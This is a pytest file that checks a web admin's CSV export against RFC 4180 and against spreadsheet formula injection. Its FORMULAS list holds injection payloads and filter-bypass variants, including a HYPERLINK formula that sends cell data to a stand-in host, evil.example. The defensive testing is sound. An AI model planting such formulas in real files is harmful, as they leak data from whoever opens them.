"""What is downloaded is CSV as RFC 4180 has it, and runs nothing in the spreadsheet that opens it."""

import csv
import io

import pytest

from stoplist.web.admin import csv_lines

PLAIN = [
    "",
    "plain",
    "a,b",
    'she said "no"',
    "two\r\nlines",
    "two\nlines",
    "semi;colon",
    "a'b",
    "Zoë 例",
    "1 = 1",
    "-",
    "a-b",
]
# What OWASP lists under "CSV Injection", and what gets round a look at the first character alone.
FORMULAS = [
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1)",
    '=HYPERLINK("https://evil.example?x="&A1,"ok")',
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\N{NO-BREAK SPACE}=1",
    '"=1',
    "'=1",
    '" \'=1"',
    "\ufeff=1",
    "\N{FULLWIDTH EQUALS SIGN}1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}x",
]


def read(text: str, **options: str) -> list[list[str]]:
    """What a program reads that was written by others."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True, **options))  # type: ignore[arg-type]


@pytest.mark.parametrize("cell", [cell for cell in PLAIN if cell != "-"])
def test_what_is_no_formula_comes_back_as_it_was(cell: str) -> None:
    """Commas, quotes and line breaks included (RFC 4180 section 2, rules 5 to 7)."""
    text = csv_lines.line(["before", cell, "after"])
    assert text.endswith("\r\n")
    assert read(text) == [["before", cell, "after"]]


@pytest.mark.parametrize("cell", [*FORMULAS, "-"])
def test_what_a_spreadsheet_would_compute_gets_a_mark_in_front(cell: str) -> None:
    """= + - @ at the beginning, be it after white space, a byte order mark or quotes, or in full width."""
    ((_, read_back, _),) = read(csv_lines.line(["before", cell, "after"]))
    assert read_back.startswith("'")
    assert read_back.replace("'", "") == cell.replace("'", ""), "nothing else was changed"


@pytest.mark.parametrize("cell", ["\ttext", "\rtext", "\ntext"])
def test_a_tab_or_line_break_in_front_is_marked_too(cell: str) -> None:
    """Some programs take it off and look at what follows."""
    assert read(csv_lines.line([cell])) == [["'" + cell]]


@pytest.mark.parametrize("separator", [";", "\t"])
@pytest.mark.parametrize("formula", ["=1+1", " =1+1", '"=1+1'])
def test_a_program_that_divides_by_another_character_finds_no_formula_either(separator: str, formula: str) -> None:
    """A spreadsheet set to a language with a decimal comma divides by ; and some by tabs: a name may hold either."""
    text = csv_lines.line([f"name{separator}{formula}"])
    for cell in text.strip().split(separator):
        assert cell.strip("\"' \r\n")[:1] not in ("=", "+", "-", "@") or "'" in cell
    assert read(text) == [[f"name{separator}'{formula}"]]


def test_no_cell_that_was_typed_begins_one_of_its_own_line() -> None:
    """A line break in a name opens no row, whatever follows it."""
    text = csv_lines.line(["a\n=1+1", "b"])
    assert read(text) == [["a\n'=1+1", "b"]]
